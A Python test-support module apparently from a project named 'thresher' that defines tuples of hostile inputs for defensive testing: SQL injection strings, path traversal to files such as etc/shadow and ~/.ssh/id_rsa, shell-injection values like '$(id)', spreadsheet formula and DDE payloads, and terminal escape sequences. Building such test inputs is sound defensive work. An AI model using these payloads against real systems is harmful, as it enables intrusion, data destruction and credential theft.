"""Texts that do harm where they are taken for something else: SQL, a path, a formula, an order to a terminal.

HTML and its relatives are in :mod:`tests.support.hostile.markup`.
"""

from __future__ import annotations

_ENDINGS = ("--", "-- -", "#", "/*", ";--", ";")
_CONDITIONS = (
    "' OR '1'='1",
    "' OR 1=1",
    '" OR ""="',
    "') OR ('1'='1",
    "1 OR 1=1",
    "' OR ''='",
    "' AND 1=0 UNION SELECT 1",
)
_STATEMENTS = (
    "DROP TABLE campaign", "DROP SCHEMA thresher CASCADE", "DELETE FROM event", "UPDATE ledger SET budget = 0",
    "INSERT INTO token VALUES ('a','b','token','admin',NULL,'','',0,9)", "TRUNCATE event",
    "ATTACH DATABASE 'x.db' AS x", "PRAGMA writable_schema = 1", "VACUUM INTO 'x.db'", "COPY token TO PROGRAM 'cat'",
    "CREATE TABLE mine (x INT)",
    "SELECT pg_sleep(10)", "SELECT load_extension('x')", "COMMIT", "ROLLBACK",
)  # fmt: skip
_PATHS_OF_OLD = ("etc/passwd", "etc/shadow", "proc/self/environ", "thresher.db", "windows/win.ini")
_UPWARDS = ("../", "..\\", "..%2f", "..%252f", "%2e%2e/", "%2e%2e%2f", "..;/", "....//", "..%c0%af", "..%5c", "．．/")
_FORMULAS = (
    "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://example.invalid?x=\"&A1,\"see\")", "IMPORTXML(A1,\"//x\")",
    "WEBSERVICE(\"http://example.invalid\")", "SUM(A1:A9)", "DDE(\"cmd\";\"/C calc\";\"x\")", "A1", "NOW()",
    "INDIRECT(\"A1\")",
)  # fmt: skip
_FIRST = ("=", "+", "-", "@", "＝", "＋", "－", "＠")

_CONTROL = ("31m", "2J", "H", "1;1H", "6n", "5i", "?1049h", "3J", "8m", "21t", "0c", ">c", "20l", "!p")
_SYSTEM = ("0;title", "2;title", "8;;http://example.invalid", "52;c;eA==", "4;1;?", "50;x", "1337;x")
_SHORT = ("c", "7", "8", "(0", "#8", "=", ">", "D", "M", "E", "N", "O", "Z", "P1;x\x1b\\", "_x\x1b\\", "^x\x1b\\")
_ALONE = (0x00, 0x05, 0x07, 0x08, 0x0B, 0x0C, 0x0D, 0x0E, 0x0F, 0x11, 0x13, 0x18, 0x1A, 0x7F)
_EIGHT_BITS = (0x84, 0x85, 0x88, 0x8D, 0x90, 0x98, 0x9B, 0x9C, 0x9D, 0x9E, 0x9F)

SQL = (
    *(f"x{condition}{ending}" for condition in _CONDITIONS for ending in _ENDINGS),
    *(f"x'; {statement}; --" for statement in _STATEMENTS),
    *(f"x\\'; {statement} --" for statement in _STATEMENTS[:5]),
    "x' || (SELECT digest FROM token) || '", "$$; DROP TABLE campaign; $$", "x') ON CONFLICT DO NOTHING; --",
    ":name", "%(name)s", "%s", "?", "?1", "$1", "{name}", "x' ESCAPE '", "NULL", "x''", "'", '"', "`", "\\", "0x27",
    "%", "_",
)  # fmt: skip
PATHS = (
    *(3 * up + target for up in _UPWARDS for target in _PATHS_OF_OLD),
    *(f"/{target}" for target in _PATHS_OF_OLD),
    "file:///etc/passwd", "~/.ssh/id_rsa", "C:\\windows\\win.ini", "/", "//", "a/b", "con", "nul", "-rf", "$HOME",
    "`id`", "$(id)", "; ls", "| ls", "*", "x.db-wal", "\\\\host\\share\\x", "./", "../", "...",
)  # fmt: skip
FORMULAS = tuple(first + formula for first in _FIRST for formula in _FORMULAS)
ESCAPES = (
    *(f"\x1b[{order}" for order in _CONTROL),
    *(f"\x1b]{order}\x07" for order in _SYSTEM),
    *(f"\x1b]{order}\x1b\\" for order in _SYSTEM),
    *(f"\x1b{order}" for order in _SHORT),
    *(chr(code) for code in _ALONE),
    *(f"{chr(code)}31m" for code in _EIGHT_BITS),
)
